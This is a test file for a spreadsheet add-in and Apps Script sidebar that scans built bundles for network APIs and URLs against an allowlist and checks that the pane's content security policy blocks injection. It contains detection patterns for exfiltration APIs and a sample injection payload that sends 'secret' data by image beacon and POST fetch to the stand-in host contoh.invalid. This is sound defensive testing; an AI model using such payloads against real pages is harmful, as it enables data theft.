import * as fs from 'fs';
import * as path from 'path';
import { Page } from 'playwright-core';
import webpack from 'webpack';
import { bangun } from '../appsscript/bundel';
import { LEFT, lembarAnggaran, TOP } from '../appsscript/lembar-anggaran';
import { AppsScriptPalsu, isi } from '../appsscript/palsu';
import { bangunAddin, bukaPanel, bukuUji, FakeState, ROOT } from '../browser/excel-panel';
import { bukaSidebar, PAGE, sampai } from '../browser/sheets-panel';
import { chromiumUntukBerkas } from '../helpers/untuk-berkas';

/**
 * Nothing a planner checks leaves the machine: every file the builds emit that a browser or
 * Apps Script runs (.js, .html) is scanned for the ways code sends data out. Each kind found
 * must be on the allowlist below with its exact count and a reason, so a new occurrence (a
 * library update, a telemetry call, a stray URL) fails this test until someone looks at it.
 */

/** The APIs that send data somewhere (or load code that could). */
const NETWORK_APIS: Record<string, RegExp> = {
  'fetch(': /\bfetch\s*\(/g,
  XMLHttpRequest: /\bXMLHttpRequest\b/g,
  WebSocket: /\bWebSocket\b/g,
  EventSource: /\bEventSource\b/g,
  sendBeacon: /\bsendBeacon\b/g,
  importScripts: /\bimportScripts\b/g,
  UrlFetchApp: /\bUrlFetchApp\b/g,
  'Worker(': /\b(?:Shared)?Worker\s*\(/g,
  RTCPeerConnection: /\bRTCPeerConnection\b/g,
  'postMessage(': /\bpostMessage\s*\(/g,
  'import(': /(?<![\w$.])import\s*\(/g,
  'window.open(': /\bwindow\.open\s*\(/g,
};

const URL_PATTERN = /\b(?:https?|wss?|ftp):\/\/[^\s"'`)<>\\,;]*/g;

interface Allowed {
  /** The emitted file, relative to its build folder. */
  file: string;
  /** A key of NETWORK_APIS, or a URL prefix. */
  what: string;
  count: number;
  reason: string;
}

const ALLOWED: Allowed[] = [
  {
    file: 'addin/taskpane.html',
    what: 'https://appsforoffice.microsoft.com',
    count: 2,
    reason: "office.js, the host API every Office add-in loads from Microsoft's CDN: its <script src> and the CSP host allowing it",
  },
  {
    file: 'addin/taskpane.js',
    what: 'Worker(',
    count: 1,
    reason:
      "Periksa Tabel's check in a Web Worker from the pane's own pekerja.js (same origin, allowed by the pane's CSP), so the pane and the functions stay responsive",
  },
  {
    file: 'addin/taskpane.js',
    what: 'postMessage(',
    count: 1,
    reason:
      "the workbook read from Excel handed to the pane's own Web Worker (pekerja.js, same origin) for the check; nothing leaves the page",
  },
  {
    file: 'addin/pekerja.js',
    what: 'postMessage(',
    count: 3,
    reason: "the check's worker answering the pane that started it: progress, result, failure",
  },
  {
    file: 'appsscript/Code.js',
    what: 'https://github.com/MikeMcl/decimal.js',
    count: 1,
    reason: 'decimal.js licence banner, a comment (clasp pushes only scripts, so the licence stays in the file)',
  },
  {
    file: 'appsscript/sidebar.html',
    what: 'https://github.com/MikeMcl/decimal.js',
    count: 1,
    reason: 'decimal.js licence banner, a comment in the inlined script',
  },
  {
    file: 'core/lembar-kinerja-core.js',
    what: 'XMLHttpRequest',
    count: 1,
    reason:
      "papaparse's remote-file reader (Papa.parse with download: true); the core parses only text it is given (core/lembar/teks.ts)",
  },
  {
    file: 'core/lembar-kinerja-core.js',
    what: 'Worker(',
    count: 1,
    reason: "papaparse's worker mode (worker: true), never asked for",
  },
  {
    file: 'core/lembar-kinerja-core.js',
    what: 'postMessage(',
    count: 5,
    reason: "papaparse's worker messages (its worker mode, never asked for)",
  },
];

/** Builds the core library into `out`, as `webpack --env only=core` does into dist/core. */
async function bangunInti(out: string): Promise<void> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const config = require(path.join(ROOT, 'webpack.config.js'))({ only: 'core' }, { mode: 'production' })[0];
  config.output = { ...config.output, path: out };
  const stats = await new Promise<webpack.Stats>((resolve, reject) =>
    webpack(config, (err, s) => (err || !s ? reject(err) : resolve(s))),
  );
  if (stats.hasErrors()) throw new Error(stats.toString('errors-only'));
}

const BUILDS = ['addin', 'appsscript', 'core'];
const { out, browser: chromium } = chromiumUntukBerkas('lk-egress-', async (dir) => {
  await bangunAddin(path.join(dir, 'addin'));
  await bangun(path.join(dir, 'appsscript'));
  await bangunInti(path.join(dir, 'core'));
});

function emitted(): string[] {
  return BUILDS.flatMap((b) =>
    (fs.readdirSync(path.join(out, b), { recursive: true }) as string[])
      .filter((f) => /\.(js|html)$/.test(f))
      .map((f) => path.join(b, f)),
  );
}

/** What a file holds: count per network API and per URL (up to its host). */
function scan(file: string): Map<string, number> {
  const text = fs.readFileSync(path.join(out, file), 'utf8');
  const found = new Map<string, number>();
  const add = (key: string) => found.set(key, (found.get(key) ?? 0) + 1);
  for (const [name, re] of Object.entries(NETWORK_APIS)) for (const _ of text.matchAll(re)) add(name);
  for (const [url] of text.matchAll(URL_PATTERN)) {
    const allowed = ALLOWED.find((a) => a.file === file && url.startsWith(a.what));
    add(allowed ? allowed.what : url);
  }
  return found;
}

test('every file the builds emit is scanned: the pane, the sidebar, the Apps Script and the core library', () => {
  expect(emitted().sort()).toEqual([
    'addin/bantuan.html',
    'addin/pekerja.js',
    'addin/taskpane.html',
    'addin/taskpane.js',
    'appsscript/Code.js',
    'appsscript/sidebar.html',
    'core/lembar-kinerja-core.js',
  ]);
});

test('no network API and no URL in the built bundles beyond the allowlist, each with its exact count', () => {
  const seen: Record<string, Record<string, number>> = {};
  for (const file of emitted()) {
    const found = scan(file);
    if (found.size > 0) seen[file] = Object.fromEntries([...found].sort());
  }
  const expected: Record<string, Record<string, number>> = {};
  for (const a of ALLOWED) (expected[a.file] ??= {})[a.what] = a.count;
  for (const k of Object.keys(expected)) expected[k] = Object.fromEntries(Object.entries(expected[k]).sort());
  expect(seen).toEqual(expected);
});

test('the scanner finds what it looks for (so a clean result means something)', () => {
  const file = path.join('core', 'plant.js');
  fs.writeFileSync(
    path.join(out, file),
    'fetch("/x");new XMLHttpRequest;new WebSocket(u);new EventSource(u);navigator.sendBeacon(u,d);importScripts(u);' +
      'UrlFetchApp.fetch(u);new n.Worker(b);new SharedWorker(b);new RTCPeerConnection;parent.postMessage(d,"*");import("./m.js");window.open(u);' +
      'var a="https://contoh.invalid/kirim?d=";',
  );
  const found = scan(file);
  fs.rmSync(path.join(out, file));
  expect([...found.keys()].sort()).toEqual([...Object.keys(NETWORK_APIS), 'https://contoh.invalid/kirim?d='].sort());
  expect(found.get('Worker(')).toBe(2);
  expect(found.get('fetch(')).toBe(2);
});

// --- In the browser: what the pane and the sidebar request, and what their CSP stops ------------

/** Every CSP violation of the page, kept where the test can read it (installed before the page's scripts). */
function catatPelanggaran(): void {
  const w = globalThis as unknown as {
    __csp: string[];
    document: { addEventListener(t: string, f: (e: { effectiveDirective: string; blockedURI: string }) => void, c: boolean): void };
  };
  w.__csp = [];
  w.document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`), true);
}

/**
 * The page loaded again with the violation log in place, every request it starts recorded from
 * the first one, and apart those that its CSP stopped before they left the browser (DevTools
 * still reports them as requests).
 */
async function muatUlang(page: Page): Promise<{ requests: string[]; stoppedByCsp: string[] }> {
  const requests: string[] = [];
  const stoppedByCsp: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('requestfailed', (r) => {
    if (/^csp$|BLOCKED_BY_CSP/.test(r.failure()?.errorText ?? '')) stoppedByCsp.push(r.url());
  });
  await page.addInitScript(catatPelanggaran);
  await page.reload();
  await page.waitForSelector('#lk-periksa');
  return { requests, stoppedByCsp };
}

/** The pane runs one action at a time and disables its buttons meanwhile: the action is done when they are back. */
async function klikDanTunggu(page: Page, selector: string): Promise<void> {
  await page.click(selector);
  await page.waitForSelector('#lk-periksa:not([disabled])');
}

type Alur = [string, (page: Page) => Promise<void>];

/** The full flows of the pane, the same in both hosts; `saved` waits until the host holds the chosen scale. */
function alurPanel(saved: (page: Page) => Promise<unknown>, excel: boolean): Alur[] {
  const flows: Alur[] = [
    [
      'pengaturan skala',
      async (p) => {
        await p.selectOption('#lk-skala', 'berhasil');
        await saved(p);
      },
    ],
    [
      'Periksa Tabel',
      async (p) => {
        await p.check('#lk-cakupan-lembar');
        await klikDanTunggu(p, '#lk-periksa');
        await p.waitForSelector('.lk-temuan');
      },
    ],
    ['klik temuan', (p) => p.click('.lk-temuan')],
    ['Hapus Tanda', (p) => klikDanTunggu(p, '#lk-hapus')],
    ['Pohon Kinerja', (p) => klikDanTunggu(p, '#lk-pohon')],
    ['Templat pohon', (p) => klikDanTunggu(p, '#lk-templat')],
    [
      'Pratinjau rumus bawaan',
      async (p) => {
        await p.check('#lk-cakupan-buku');
        await klikDanTunggu(p, '#lk-bawaan-pratinjau');
        await p.waitForSelector('#lk-bawaan-terapkan:not([hidden])');
      },
    ],
    ['Terapkan rumus bawaan', (p) => klikDanTunggu(p, '#lk-bawaan-terapkan')],
    ['Kembalikan rumus asli', (p) => klikDanTunggu(p, '#lk-bawaan-kembalikan')],
  ];
  if (excel) flows.push(['Pasang =CAPAIAN tanpa awalan', (p) => klikDanTunggu(p, '#lk-tanpa-awalan')]);
  return flows;
}

/** Runs the flows, returning how many requests each one made. */
async function jalankanAlur(page: Page, requests: string[], flows: Alur[]): Promise<Record<string, string[]>> {
  const made: Record<string, string[]> = {};
  for (const [name, flow] of flows) {
    const before = requests.length;
    await flow(page);
    made[name] = requests.slice(before);
  }
  return made;
}

/**
 * What the page's CSP does to what an injected payload would try: an inline script, an inline
 * event handler, an image and a fetch to another origin, each added by the page's own DOM calls.
 * (Not eval: the DevTools protocol that runs this is exempt from the page's eval rule.)
 */
const PERCOBAAN = `(async () => {
  const w = window;
  const before = w.__csp.length;
  const s = document.createElement('script');
  s.textContent = 'window.__xss = "script"';
  document.body.append(s);
  const d = document.createElement('div');
  d.setAttribute('onclick', 'window.__xss = "onclick"');
  document.body.append(d);
  d.click();
  const img = document.createElement('img');
  img.src = 'https://contoh.invalid/piksel.png?d=rahasia';
  document.body.append(img);
  let fetched = 'terkirim';
  try { await fetch('https://contoh.invalid/kirim?d=rahasia', { method: 'POST', body: 'isi sel' }); } catch (e) { fetched = 'ditolak'; }
  for (let i = 0; i < 100 && w.__csp.length < before + 4; i++) await new Promise((r) => setTimeout(r, 20));
  return { xss: w.__xss ?? null, fetched, violations: w.__csp.slice(before).map((v) => v.split(' ')[0]).sort() };
})()`;

const DIHENTIKAN = {
  xss: null,
  fetched: 'ditolak',
  violations: ['connect-src', 'img-src', 'script-src-attr', 'script-src-elem'],
};

/** The Malang table, plus a sheet of SAKIP formulas for Rumus bawaan. */
function bukuExcel(): FakeState {
  const state = bukuUji();
  state.sheets.push({
    name: 'Capaian',
    cells: {
      A1: { v: 80 },
      B1: { v: 79.72 },
      C1: { v: 99.65, f: '=SAKIP.CAPAIAN(B1,A1)' },
      D1: { v: 'Sangat Tinggi', f: '=SAKIP.PREDIKAT(C1)' },
    },
    notes: {},
    merges: [],
  });
  return state;
}

test('the task pane requests only its own files and office.js, in every flow; its CSP stops what an injection would try', async () => {
  const panel = await bukaPanel(chromium(), path.join(out, 'addin'), bukuExcel());
  const { page } = panel;
  const { requests, stoppedByCsp } = await muatUlang(page);
  expect(requests).toEqual([
    'https://lembar-kinerja.test/taskpane.html',
    'https://appsforoffice.microsoft.com/lib/1/hosted/office.js',
    'https://lembar-kinerja.test/taskpane.js',
  ]);
  const saved = (p: Page) =>
    p.waitForFunction(
      () =>
        (globalThis as unknown as { __excel: { state: FakeState } }).__excel.state.settings['LembarKinerja.pengaturan'] !== undefined,
    );
  const made = await jalankanAlur(page, requests, alurPanel(saved, true));
  // Periksa Tabel loads the pane's own worker script (the check runs off the pane's thread).
  expect(made).toEqual(
    Object.fromEntries(Object.keys(made).map((k) => [k, k === 'Periksa Tabel' ? ['https://lembar-kinerja.test/pekerja.js'] : []])),
  );
  expect(Object.keys(made)).toHaveLength(10);
  expect((await panel.state()).sheets.map((s) => s.name)).toEqual([
    'Tabel 2.3',
    'Catatan',
    'Capaian',
    'Pohon Kinerja',
    'Kaskade Kinerja',
  ]);
  // The flows themselves never ran into the policy.
  expect(await page.evaluate('window.__csp')).toEqual([]);
  expect(await page.evaluate(PERCOBAAN)).toEqual(DIHENTIKAN);
  // The image was stopped inside the browser; the fetch was never even started.
  await sampai(
    () => stoppedByCsp.length,
    (n) => n > 0,
  );
  // (after the pane's three files and its worker script)
  expect(requests.slice(4)).toEqual(stoppedByCsp);
  expect(stoppedByCsp).toEqual(['https://contoh.invalid/piksel.png?d=rahasia']);
  expect(await panel.log()).toEqual([]);
  await panel.close();
}, 120_000);

/**
 * The sidebar has no CSP (HtmlService drops a <meta> policy, see appsscript/klien/sidebar.html):
 * what keeps it safe is that it never renders workbook text as HTML (injeksi-panel.test.ts),
 * and that it requests nothing, which is what this checks.
 */
test('the sidebar requests nothing but itself, in every flow', async () => {
  const gas = new AppsScriptPalsu(path.join(out, 'appsscript'));
  const sheet = lembarAnggaran(gas);
  const capaian = gas.ss.addSheet('Capaian');
  isi(capaian, 1, 1, [[{ value: 'Realisasi' }, { value: 'Target' }, { value: 'Capaian (%)' }]]);
  isi(capaian, 2, 1, [[{ value: 72 }, { value: 80 }, { formula: '=CAPAIAN(A2,B2)' }]]);
  gas.ss.active = { sheet, range: sheet.getRange(TOP, LEFT, 20, 6) };
  const { page, pageErrors } = await bukaSidebar(chromium(), path.join(out, 'appsscript'), gas);
  const { requests, stoppedByCsp } = await muatUlang(page);
  expect(requests).toEqual([PAGE]);
  const saved = () =>
    sampai(
      () => gas.props.store.get('lembarKinerja.pengaturan'),
      (v) => v !== undefined,
    );
  const made = await jalankanAlur(page, requests, alurPanel(saved, false));
  expect(made).toEqual(Object.fromEntries(Object.keys(made).map((k) => [k, []])));
  expect(Object.keys(made)).toHaveLength(9);
  expect(gas.ss.sheets.map((s) => s.name)).toEqual(expect.arrayContaining(['Realisasi', 'Capaian', 'Pohon Kinerja']));
  expect(stoppedByCsp).toEqual([]);
  expect(pageErrors).toEqual([]);
  await page.close();
}, 120_000);

test('the sidebar written into a frame the way HtmlService delivers it still runs', async () => {
  const gas = new AppsScriptPalsu(path.join(out, 'appsscript'));
  gas.muat(fs.readFileSync(path.join(out, 'appsscript', 'Code.js'), 'utf8')).lkMenuPeriksa();
  const html = gas.sidebars[0].disajikan();
  const page = await chromium().newPage();
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(e.message));
  const WADAH = 'https://wadah.lembar-kinerja.invalid/';
  await page.route('**/*', (r) =>
    r.request().url() === WADAH
      ? r.fulfill({ body: '<!DOCTYPE html><html><body></body></html>', contentType: 'text/html' })
      : r.abort(),
  );
  await page.goto(WADAH);
  // Apps Script puts google.script.run on the user frame from its parent and writes the page in.
  await page.evaluate((content) => {
    interface Bingkai {
      contentWindow: { google?: unknown; __csp?: string[] };
      contentDocument: {
        open(): void;
        write(s: string): void;
        close(): void;
        addEventListener(t: string, f: (e: { effectiveDirective: string; blockedURI: string }) => void, capture: boolean): void;
      };
    }
    const d = (globalThis as unknown as { document: { createElement(t: 'iframe'): Bingkai; body: { append(n: Bingkai): void } } })
      .document;
    const f = d.createElement('iframe');
    d.body.append(f);
    const w = f.contentWindow;
    const runner: Record<string, unknown> = {};
    runner.withSuccessHandler = () => runner;
    runner.withFailureHandler = () => runner;
    w.google = { script: { run: runner } };
    f.contentDocument.open();
    f.contentDocument.write(content);
    f.contentDocument.close();
    // document.open() drops the document's listeners: the log starts afterwards.
    const log: string[] = [];
    w.__csp = log;
    f.contentDocument.addEventListener('securitypolicyviolation', (e) => log.push(`${e.effectiveDirective} ${e.blockedURI}`), true);
  }, html);
  const frame = page.frames().find((f) => f !== page.mainFrame())!;
  await frame.waitForSelector('#lk-periksa');
  // Its style element applies: the primary button wears the Office blue.
  expect(await frame.evaluate("getComputedStyle(document.getElementById('lk-periksa')).backgroundColor")).toBe('rgb(15, 108, 189)');
  expect(pageErrors).toEqual([]);
  await page.close();
}, 60_000);
